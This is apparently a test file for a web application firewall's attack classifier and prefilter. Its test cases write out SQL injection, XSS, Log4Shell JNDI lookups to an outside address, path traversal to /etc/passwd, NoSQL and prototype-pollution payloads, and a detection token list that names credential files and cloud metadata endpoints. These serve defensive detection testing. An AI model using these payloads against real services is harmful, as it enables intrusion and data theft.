// biome-ignore-all lint/suspicious/noTemplateCurlyInString: Log4Shell lookups are what some of these values are about
import assert from 'node:assert/strict';
import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { test } from 'node:test';
import { fileURLToPath } from 'node:url';
import type { ApiEvent, EventProtection } from '@palisade/core';
import ts from 'typescript';
import { BUILTIN_DETECTORS, SHIPPED_SIGNATURES_DIR } from '../protect/detect/index.js';
import { requestInputs } from '../protect/inputs.js';
import { compileSignatures, loadSignatureRules, type SignatureRule, type SignatureSet } from '../protect/signatures.js';
import { type AttackReader, createAttackReader, PREFILTER_TABLES, patternFingerprint, prefilterSkips } from './attack-reader.js';

interface RequestSpec {
  method?: string;
  path: string;
  query?: string;
  queryParams?: Record<string, string | string[]>;
  headers?: Record<string, string>;
  userAgent?: string;
  body?: { text: string; contentType?: string; encoding?: 'base64' };
  protection?: EventProtection;
}

function eventOf(spec: RequestSpec): ApiEvent {
  const request: ApiEvent['request'] = { method: spec.method ?? 'GET', path: spec.path, headers: spec.headers ?? {} };
  if (spec.query !== undefined) request.query = spec.query;
  if (spec.queryParams !== undefined) request.queryParams = spec.queryParams;
  if (spec.body !== undefined) request.body = { truncated: false, ...spec.body };
  const event: ApiEvent = {
    schemaVersion: 1,
    id: '0'.repeat(32),
    time: 0,
    source: { kind: 'test', name: 'test' },
    request,
    client: spec.userAgent === undefined ? { ip: '198.51.100.7' } : { ip: '198.51.100.7', userAgent: spec.userAgent },
    identity: { authScheme: 'none' },
    entities: {},
  };
  if (spec.protection !== undefined) event.protection = spec.protection;
  return event;
}

const json = (value: unknown): RequestSpec['body'] => ({ text: JSON.stringify(value), contentType: 'application/json' });

const readers = new Map<string, Promise<AttackReader>>();
function readerAt(paranoia: number, prefilter = true): Promise<AttackReader> {
  const key = `${paranoia}/${prefilter}`;
  let reader = readers.get(key);
  if (reader === undefined) {
    reader = createAttackReader({ paranoia, prefilter });
    readers.set(key, reader);
  }
  return reader;
}

const sets = new Map<number, Promise<SignatureSet>>();
function signaturesAt(paranoia: number): Promise<SignatureSet> {
  let set = sets.get(paranoia);
  if (set === undefined) {
    set = loadSignatureRules([SHIPPED_SIGNATURES_DIR], BUILTIN_DETECTORS).then((rules) =>
      compileSignatures(rules, BUILTIN_DETECTORS, { paranoia }),
    );
    sets.set(paranoia, set);
  }
  return set;
}

test('attacks in the query, the path, a header and a JSON body are read with their class', async () => {
  const read = await readerAt(1);
  const cases: Array<[RequestSpec, string[]]> = [
    [{ path: '/v2/products', query: "category=shoes'%20OR%20'1'%3D'1" }, ['sqli']],
    [{ path: '/v2/search', query: 'q=1+UNION+SELECT+username,password+FROM+users--' }, ['sqli']],
    [{ path: '/v2/search', query: 'q=%3Cscript%3Ealert(1)%3C%2Fscript%3E' }, ['xss']],
    [{ path: '/v2/products', query: 'category=%24%7Bjndi%3Aldap%3A%2F%2F203.0.113.66%2Fa%7D' }, ['jndi']],
    [{ path: '/v2/invoices/..%2F..%2F..%2Fetc%2Fpasswd' }, ['lfi']],
    [{ path: '/v2/files/0x2fetc0x2fpasswd' }, ['lfi']],
    [{ path: '/.git/config' }, ['lfi']],
    [{ path: '/v2/orders', headers: { 'x-tenant-id': "1' OR '1'='1" } }, ['sqli']],
    [{ path: '/v2/orders', headers: { referer: 'https://shop.example/${jndi:ldap://203.0.113.66/a}' } }, ['jndi']],
    [{ path: '/v2/orders', userAgent: 'sqlmap/1.8.2#stable (https://sqlmap.org)' }, ['scanner']],
    [{ path: '/v2/orders', userAgent: 'Mozilla/5.0 ${jndi:ldap://203.0.113.66/a}' }, ['jndi']],
    [{ method: 'POST', path: '/v2/cart/items', body: json({ sku: '<img src=x onerror=alert(1)>', quantity: 1 }) }, ['xss']],
    [{ method: 'POST', path: '/v2/auth/login', body: json({ username: { $ne: null }, password: 'x' }) }, ['nosqli']],
    [
      { method: 'POST', path: '/v2/profile', body: { text: '{"__proto__":{"admin":true}}', contentType: 'application/json' } },
      ['prototype-pollution'],
    ],
    [
      { method: 'POST', path: '/v2/search', body: { text: 'q=1%27%20OR%201%3D1--', contentType: 'application/x-www-form-urlencoded' } },
      ['sqli'],
    ],
    // events that kept only the parsed query
    [{ path: '/v2/search', queryParams: { q: '<svg onload=alert(1)>' } }, ['xss']],
  ];
  for (const [spec, expected] of cases) assert.deepEqual(read(eventOf(spec)), expected, JSON.stringify(spec));
});

test('benign API requests carry no attack', async () => {
  const read = await readerAt(1);
  const cases: RequestSpec[] = [
    { path: '/v2/orders/70003526', query: 'page=1&size=10' },
    { path: '/v2/search', query: 'q=red+running+shoes&page=2' },
    { path: '/v2/search', query: "q=women's+boots" },
    { path: '/v2/orders', query: 'since=2026-11-01T10:00:00Z&until=2026-11-02T10%3A00%3A00.000Z' },
    { path: '/v2/login', query: 'redirect=https%3A%2F%2Fshop.example%2Fcart%3Fstep%3D2' },
    { path: '/v2/users/3f2a9c1e-5b7d-4e8f-9a0b-1c2d3e4f5a6b/avatar.png' },
    { path: '/v2/products/BAG-103367', headers: { 'x-request-id': 'b7e0c0d2a1f34e7c', 'content-type': 'application/json' } },
    { path: '/v2/select/options', query: 'union=eu&case=upper' },
    { path: '/v2/orders', userAgent: 'Mozilla/5.0 (Macintosh; Intel Mac OS X 14.6; rv:133.0) Gecko/20100101 Firefox/133.0' },
    { path: '/v2/orders', headers: { referer: 'https://shop.example/products?category=shoes&sort=price' } },
    { path: '/v2/auth', headers: { authorization: "Bearer ' OR 1=1--", cookie: 'sid=<script>' } },
    { path: '/v2/tokens', headers: { 'x-api-key': 'tok_5gdiFeSknHfK450HGiDLGk' } },
    {
      method: 'POST',
      path: '/v2/auth/login',
      body: json({ username: 'frank.dubois@mail.example', password: 'tok_5gdiFeSknHfK450HGiDLGk' }),
    },
    {
      method: 'POST',
      path: '/v2/reviews',
      body: json({
        comment: "It's great, isn't it? Don't wash it at 60°C; the seller said \"fine\".",
        rating: 5,
        tags: ['shoes', "O'Neill"],
      }),
    },
    {
      method: 'POST',
      path: '/v2/webhooks',
      body: json({ url: 'https://hooks.partner.example/palisade?id=42', events: ['order.created'] }),
    },
    {
      method: 'POST',
      path: '/v2/contact',
      body: json({ email: 'ana.okafor99@mail.example', subject: 'Select a size', text: 'Which union of sizes?' }),
    },
    // a binary body is not text to inspect
    {
      method: 'POST',
      path: '/v2/upload',
      body: { text: Buffer.from("' OR 1=1--").toString('base64'), encoding: 'base64', contentType: 'image/png' },
    },
  ];
  for (const spec of cases) assert.deepEqual(read(eventOf(spec)), [], JSON.stringify(spec));
});

test('a match below the threshold is no attack', async () => {
  const read = await readerAt(1);
  // an attack tool scores 5 points (critical); an internet-wide survey 2 (notice), below the threshold of 5
  assert.deepEqual(read(eventOf({ path: '/', userAgent: 'Mozilla/5.0 zgrab/0.x' })), ['scanner']);
  assert.deepEqual(
    read(eventOf({ path: '/', userAgent: 'Expanse, a Palo Alto Networks company, searches across the global IPv4 space' })),
    [],
  );
});

test('events of the sensor are read from their findings, not inspected again', async () => {
  const read = await readerAt(1);
  const protection = (findings: EventProtection['findings'], score: number): EventProtection => ({
    action: 'block',
    score,
    threshold: 5,
    paranoia: 1,
    findings,
  });
  const sqli = {
    protection: 'signatures' as const,
    ruleId: 'sqli/tokens',
    category: 'sqli',
    detail: 'tautology',
    score: 5,
    mode: 'block' as const,
  };
  const xss = {
    protection: 'signatures' as const,
    ruleId: 'xss/html',
    category: 'xss',
    detail: 'script-tag',
    score: 5,
    mode: 'block' as const,
  };
  const rate = { protection: 'rate-limit' as const, ruleId: 'rate-limit/login-per-ip', detail: 'too many', mode: 'block' as const };
  assert.deepEqual(read(eventOf({ path: '/v2/orders', protection: protection([xss, sqli, sqli, rate], 10) })), ['sqli', 'xss']);
  // nothing found by the sensor: the payload in the path is not read again
  assert.deepEqual(read(eventOf({ path: '/v2/..%2F..%2Fetc%2Fpasswd', protection: protection([rate], 0) })), []);
  // matches that stayed below the threshold were no attack for the sensor either
  const survey = {
    protection: 'signatures' as const,
    ruleId: 'scanner/survey-tool',
    category: 'scanner',
    detail: 'survey-tool',
    score: 2,
    mode: 'monitor' as const,
  };
  assert.deepEqual(read(eventOf({ path: '/', protection: protection([survey], 2) })), []);
});

test('every built-in detector and every shipped pattern rule has a current need for the prefilter', async () => {
  for (const name of Object.keys(BUILTIN_DETECTORS)) {
    // the user-agent detectors only ever judge `header:user-agent`, which rules name one by one
    if (name === 'scanner-user-agent' || name === 'survey-user-agent') continue;
    assert.ok(PREFILTER_TABLES.detectors[name] !== undefined, `detector ${name} has no need in DETECTOR_NEEDS`);
  }
  const rules = await loadSignatureRules([SHIPPED_SIGNATURES_DIR], BUILTIN_DETECTORS);
  for (const rule of rules) {
    if (rule.regex === undefined || !judgesPrefilteredKinds(rule)) continue;
    const known = PREFILTER_TABLES.patterns[rule.id];
    assert.ok(known !== undefined, `pattern rule ${rule.id} has no need in PATTERN_NEEDS`);
    assert.equal(known.fingerprint, patternFingerprint(rule), `pattern of ${rule.id} changed: read it again and update PATTERN_NEEDS`);
  }
});

const PREFILTERED_KINDS = ['path', 'query', 'query-name', 'header', 'json', 'json-key', 'form', 'form-name'];

function judgesPrefilteredKinds(rule: SignatureRule): boolean {
  const kinds = rule.targets ?? PREFILTERED_KINDS;
  return kinds.some((kind) => PREFILTERED_KINDS.includes(kind) && !rule.exclude?.includes(kind));
}

/**
 * Plain tokens to try the prefilter on: every string of the detectors' and signatures' own tests (their attacks
 * and benign values), what they read as URL-decoded, each run of letters, digits and `. _ - / @` in them, and
 * the pieces of those runs between slashes; with a few written for the prefilter's own needs.
 */
function tokenCorpus(): string[] {
  const protect = fileURLToPath(new URL('../protect', import.meta.url));
  const strings = new Set<string>();
  for (const folder of [protect, join(protect, 'detect')]) {
    for (const file of readdirSync(folder).filter((f) => f.endsWith('.test.ts'))) {
      const source = ts.createSourceFile(file, readFileSync(join(folder, file), 'utf8'), ts.ScriptTarget.Latest);
      const visit = (node: ts.Node): void => {
        if (ts.isStringLiteral(node) || ts.isNoSubstitutionTemplateLiteral(node)) strings.add(node.text);
        ts.forEachChild(node, visit);
      };
      visit(source);
    }
  }
  const tokens = new Set([
    'visudo',
    'zstdcat',
    'ansible-playbook',
    'start-stop-daemon',
    'whoami',
    'curl',
    'ipconfig/all',
    '@whoami.exe/priv',
    'cmd/c@whoami',
    'for/f',
    'etcpasswd',
    '0x2fetc0x2fpasswd',
    '/etc/passwd',
    'boot.ini',
    'id_rsa',
    '..',
    '/a/./b',
    'information_schema',
    'msdb',
    'admin--',
    '__proto__',
    'prototype',
    'constructor.prototype',
    'jsessionid',
    'PHPSESSID',
    'sess_0123456789abcdef0123',
    'java.lang.Runtime',
    'org.apache.commons.collections.functors.InvokerTransformer',
    'javassist',
    'x.oast.me',
    'localhost/admin',
    'metadata.google.internal/computeMetadata/v1',
    '//127.0.0.1/admin',
    'PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg',
    'L2V0Yy9wYXNzd2Q',
    '/.git/config',
    '/debug.log',
    '/backup.sql',
    '/dump.sql.gz',
    '/@fs/etc/passwd',
    '@fs',
    '.env',
    '2.2250738585072011e-308',
    'document.cookie',
    'window.location',
    'freemarker.template.utility.Execute',
    '__class__.__mro__',
    'process.mainModule',
    'require.main',
    'global.process.mainModule',
  ]);
  const plain = /[A-Za-z0-9._/@-]+/g;
  for (const text of strings) {
    let decoded = text;
    try {
      decoded = decodeURIComponent(text);
    } catch {
      // a malformed escape: the text as it is
    }
    for (const form of [text, decoded]) {
      for (const run of form.matchAll(plain)) {
        tokens.add(run[0]);
        for (const piece of run[0].split('/')) if (piece !== '') tokens.add(piece);
      }
    }
  }
  return [...tokens].filter((t) => t.length <= 200);
}

/**
 * Where the reader finds values, with the locations whose detectors read the location too: the first path
 * segment and the whole path, include-like parameter names, JSON keys under `constructor`.
 */
const LOCATIONS = [
  'path:0',
  'path:2',
  'path',
  'query:q',
  'query:file',
  'query-name:q',
  'header:x-tenant-id',
  'header:referer',
  'json:$.comment',
  'json-key:$',
  'json-key:$.constructor',
  'form:q',
  'form-name:q',
];

test('a value the prefilter skips is one no signature matches, at every paranoia level', async () => {
  const tokens = tokenCorpus();
  assert.ok(tokens.length > 1_000, `only ${tokens.length} tokens`);
  // paranoia 3 and 4 add no rule that can match a plain token (crlf/header-injection-in-text needs a line break)
  for (const paranoia of [1, 2]) {
    const signatures = await signaturesAt(paranoia);
    const skips = prefilterSkips(signatures);
    let skipped = 0;
    for (const value of tokens) {
      for (const location of LOCATIONS) {
        if (!skips(location, value)) continue;
        skipped++;
        const { matches } = signatures.inspect([{ location, value }]);
        assert.deepEqual(
          matches.map((m) => m.ruleId),
          [],
          `paranoia ${paranoia}: the prefilter skips ${JSON.stringify(value)} at ${location}, which matches`,
        );
      }
    }
    // the prefilter does skip most plain tokens: a test of nothing would pass too
    assert.ok(skipped > tokens.length * LOCATIONS.length * 0.5, `paranoia ${paranoia}: only ${skipped} skipped`);
  }
});

/**
 * Every word of the command detectors' program tables and of the scanner names and call-back domains, alone,
 * with a glued switch (`ipconfig/all`) and as the end of a host name (`x.oast.me`).
 */
function programTokens(): string[] {
  const internal = fileURLToPath(new URL('../protect/detect/internal', import.meta.url));
  const tokens = new Set<string>();
  for (const file of ['exec-commands.ts', 'windows-programs.ts', 'windows-cmd.ts', 'markup-scanners.ts']) {
    const source = ts.createSourceFile(file, readFileSync(join(internal, file), 'utf8'), ts.ScriptTarget.Latest);
    const visit = (node: ts.Node): void => {
      if (ts.isStringLiteral(node) || ts.isNoSubstitutionTemplateLiteral(node)) {
        for (const word of node.text.split(/\s+/)) {
          if (!/^[A-Za-z0-9._/@-]+$/.test(word)) continue;
          for (const token of [word, word.toUpperCase(), `${word}/all`, `${word}.exe`, `@${word}/c`, `x.${word}`]) tokens.add(token);
        }
      }
      ts.forEachChild(node, visit);
    };
    visit(source);
  }
  return [...tokens];
}

test('the prefilter skips no program name or call-back domain the detectors know', async () => {
  const tokens = programTokens();
  assert.ok(tokens.length > 1_000, `only ${tokens.length} tokens`);
  for (const paranoia of [1, 2]) {
    const signatures = await signaturesAt(paranoia);
    const skips = prefilterSkips(signatures);
    for (const value of tokens) {
      for (const location of ['query:q', 'path:0']) {
        if (!skips(location, value)) continue;
        const { matches } = signatures.inspect([{ location, value }]);
        assert.deepEqual(
          matches.map((m) => m.ruleId),
          [],
          `paranoia ${paranoia}: the prefilter skips ${JSON.stringify(value)} at ${location}, which matches`,
        );
      }
    }
  }
});

/**
 * What the sensor would find in the event, without the reader's shortcuts: `requestInputs` of the whole request
 * (the headers the reader reads: all but the transport's and the tokenized credentials, the user agent
 * included), one `inspect`, the threshold.
 */
function referenceAttacks(signatures: SignatureSet, event: ApiEvent): string[] {
  const request = event.request;
  const headers: Record<string, string> = {};
  for (const [name, value] of Object.entries(request.headers)) {
    if (['authorization', 'proxy-authorization', 'cookie'].includes(name) || (value.length === 26 && value.startsWith('tok_'))) continue;
    headers[name] = value;
  }
  if (event.client.userAgent !== undefined) headers['user-agent'] ??= event.client.userAgent;
  const body = request.body;
  const contentType = body?.contentType ?? request.headers['content-type'];
  const head = requestInputs({ path: request.path, query: request.query ?? '', headers }).inputs;
  const inBody =
    body === undefined || body.encoding === 'base64'
      ? []
      : requestInputs({
          path: '',
          query: '',
          headers: contentType === undefined ? {} : { 'content-type': contentType },
          body: Buffer.from(body.text),
        }).inputs.filter((input) => !input.location.startsWith('header:'));
  const result = signatures.inspect([...head, ...inBody]);
  if (result.score < signatures.threshold) return [];
  return [...new Set(result.matches.map((m) => m.category))].sort();
}

test('the prefilter and the caches change no result: the reader agrees with one plain inspection of each request', async () => {
  const tokens = tokenCorpus();
  const requests: RequestSpec[] = [];
  tokens.forEach((token, i) => {
    const name = tokens[(i * 7) % tokens.length] as string;
    const encoded = encodeURIComponent(token);
    requests.push(
      { path: `/${token}/v2/${token}`, query: `q=${encoded}&${encodeURIComponent(name)}=1&page=2` },
      { path: `/${token}`, query: `${token}=${token}`, headers: { 'x-tenant-id': token, referer: token }, userAgent: token },
      i % 2 === 0
        ? { method: 'POST', path: '/v2/items', body: json({ [name]: token, items: [{ [token]: 1 }] }) }
        : {
            method: 'POST',
            path: '/v2/items',
            body: { text: `q=${encoded}&${token}=1`, contentType: 'application/x-www-form-urlencoded' },
          },
    );
  });
  const read = await readerAt(1);
  const signatures = await signaturesAt(1);
  for (const spec of requests) {
    const event = eventOf(spec);
    assert.deepEqual(read(event), referenceAttacks(signatures, event), JSON.stringify(spec));
  }
  // read again: from the caches now
  for (const spec of requests.slice(0, 2_000)) {
    const event = eventOf(spec);
    assert.deepEqual(read(event), referenceAttacks(signatures, event), JSON.stringify(spec));
  }
});

test('the prefilter can be switched off, with the same results', async () => {
  const fast = await readerAt(1);
  const slow = await readerAt(1, false);
  const events = [
    { path: '/v2/orders/70003526', query: 'page=1' },
    { path: '/v2/search', query: 'q=1+UNION+SELECT+password+FROM+users' },
    { path: '/v2/files/..%2F..%2Fetc%2Fpasswd' },
    { path: '/visudo' },
    { path: '/v2/run', query: 'cmd=ipconfig/all' },
    {
      method: 'POST',
      path: '/v2/profile',
      body: { text: '{"constructor":{"prototype":{"admin":true}}}', contentType: 'application/json' },
    },
  ].map(eventOf);
  for (const event of events) assert.deepEqual(fast(event), slow(event), event.request.path);
});

test("a session id in the URL is read as an attack unless the request came by a link within the site (the rule's `unless`)", async () => {
  const read = await readerAt(1);
  const planted = (referer?: string) =>
    read(
      eventOf({
        path: '/account',
        query: 'JSESSIONID=0123456789ABCDEF',
        headers: referer === undefined ? { host: 'shop.example' } : { host: 'shop.example', referer },
      }),
    );
  assert.deepEqual(planted('https://mail.example/inbox'), ['session-fixation']);
  assert.deepEqual(planted(), ['session-fixation']);
  assert.deepEqual(planted('https://shop.example/catalogue'), []);
  // the verdict kept for the value does not carry over to the next request
  assert.deepEqual(planted('https://mail.example/inbox'), ['session-fixation']);
});
